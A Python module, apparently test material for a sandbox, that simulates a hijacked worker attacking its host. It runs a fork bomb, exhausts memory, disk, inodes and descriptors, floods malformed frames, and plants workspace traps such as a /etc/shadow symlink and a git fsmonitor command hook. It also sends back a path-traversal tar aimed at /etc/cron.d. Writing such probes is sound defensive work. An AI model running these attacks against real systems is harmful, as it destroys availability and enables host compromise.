"""Attacks that use up what there is. Each returns what it got before it was stopped."""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import struct
import tarfile
import time
from io import BytesIO
from pathlib import Path
from typing import Any


def forks(seconds: float) -> int:
    """Children that fork in turn, without end; how many forks went well in this process."""
    until = time.monotonic() + seconds
    born = 0
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                while True:
                    with contextlib.suppress(OSError):
                        os.fork()
            born += 1
        except OSError:
            time.sleep(0.01)
    return born


def memory() -> str:
    """Eat in a child until it dies; how it did."""
    child = os.fork()
    if child == 0:
        held = []
        with contextlib.suppress(MemoryError):
            while True:
                held.append(b"x" * (8 << 20))
        os._exit(3)
    _, status = os.waitpid(child, 0)
    return f"signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else f"exit {os.WEXITSTATUS(status)}"


def memory_files(count: int, size: int) -> int:
    """Memory that no process maps, so that only the group's limit sees it; bytes written."""
    written = 0
    child = os.fork()
    if child == 0:
        for number in range(count):
            descriptor = os.memfd_create(str(number))
            for _ in range(size >> 20):
                os.write(descriptor, b"x" * (1 << 20))
        os._exit(0)
    _, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
        written = count * size
    return written


def disk(directory: str, size: int) -> int:
    """Bytes that fit below a directory, in files of 1 MB."""
    written = 0
    with contextlib.suppress(OSError):
        for number in range(size >> 20):
            with open(f"{directory}/fill{number}", "wb", buffering=0) as file:
                written += file.write(bytes(1 << 20))
    for path in Path(directory).glob("fill*"):
        path.unlink()
    return written


def file_count(directory: str, count: int) -> int:
    made = 0
    with contextlib.suppress(OSError):
        for number in range(count):
            os.close(os.open(f"{directory}/inode{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
    for path in Path(directory).glob("inode*"):
        path.unlink()
    return made


def descriptors(count: int) -> int:
    held: list[int] = []
    with contextlib.suppress(OSError):
        for _ in range(count):
            held.append(os.open("/dev/null", os.O_RDONLY))
    for descriptor in held:
        os.close(descriptor)
    return len(held)


def burn(processes: int, seconds: float) -> None:
    children = []
    for _ in range(processes):
        child = os.fork()
        if child == 0:
            until = time.monotonic() + seconds
            while time.monotonic() < until:
                pass
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)


def stray() -> int:
    """A daemon: no parent, own session, deaf to every signal that can be ignored."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return os.getpid()


def sleep_for_ever() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(600)


def _say(data: bytes) -> None:
    """Raw bytes to the kernel."""
    os.set_blocking(4, True)
    while data:
        data = data[os.write(4, data) :]


def talk_without_end() -> None:
    """Frames, well formed, one after the other."""
    body = b'{"type": "step"}'
    while True:
        _say(len(body).to_bytes(4, "big") + body)


def send_raw(text: str, then: str = "") -> None:
    """Bytes that are no frame."""
    _say(bytes.fromhex(text))
    if then == "exit":
        os._exit(0)


def send_frame(piece: str, times: int, before: str = "", after: str = "") -> None:
    """One frame with a header made of so many pieces."""
    data = (before + piece * times + after).encode()
    _say(len(data).to_bytes(4, "big") + data)


def send_lingering_socket() -> list[str]:
    """A socket whose end takes hours, over each descriptor that leads out; what came of it."""
    listening = socket.create_server(("127.0.0.1", 0))
    found = []
    for descriptor in (3, 4):
        full = socket.create_connection(listening.getsockname())
        with contextlib.suppress(OSError):
            full.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 36_000))
        full.setblocking(False)
        with contextlib.suppress(OSError):
            while True:
                full.send(bytes(1 << 16))
        try:
            with socket.socket(fileno=os.dup(descriptor)) as out:
                socket.send_fds(out, [b"\0\0\0\2{}"], [full.fileno()])
            found.append("sent")
        except OSError as error:
            found.append(type(error).__name__)
        full.detach()
    return found


def leave_traps() -> list[str]:
    """Everything a careless host would trip over, in the workspace."""
    failed = []
    os.makedirs("/ws/good")
    Path("/ws/good/plain.txt").write_text("plain")
    Path("/ws/name\x1b[31m").write_text("escape")
    Path("/ws/.git").mkdir()
    Path("/ws/.git/config").write_text("[core]\nfsmonitor = touch /tmp/pwned")
    traps: list[tuple[str, Any]] = [
        ("link", lambda: os.symlink("/etc/shadow", "/ws/shadow")),
        ("directory link", lambda: os.symlink("/", "/ws/everything")),
        ("fifo", lambda: os.mkfifo("/ws/fifo")),
        ("hard link", lambda: os.link("/ws/good/plain.txt", "/ws/hard")),
        ("device", lambda: os.mknod("/ws/device", 0o60600, os.makedev(8, 0))),
        ("socket", lambda: socket.socket(socket.AF_UNIX).bind("/ws/socket")),
        ("setuid", lambda: (Path("/ws/suid").write_text("x"), os.chmod("/ws/suid", 0o6755))),
        ("foreign link", lambda: os.link("/usr/bin/env", "/ws/env")),
    ]
    for name, lay in traps:
        try:
            lay()
        except OSError:
            failed.append(name)
    return failed


def send_workspace() -> None:
    """The workspace as a worker that was taken over would send it: everything, by its real kind."""
    buffer = BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        archive.add("/ws", arcname=".")
        for name in ("../escaped", "/etc/cron.d/job", "a/../../b"):
            member = tarfile.TarInfo(name)
            member.size = 3
            archive.addfile(member, BytesIO(b"bad"))
    data = buffer.getvalue()
    head = f'{{"type": "done", "blobs": [{len(data)}]}}'.encode()
    _say(len(head).to_bytes(4, "big") + head + data)
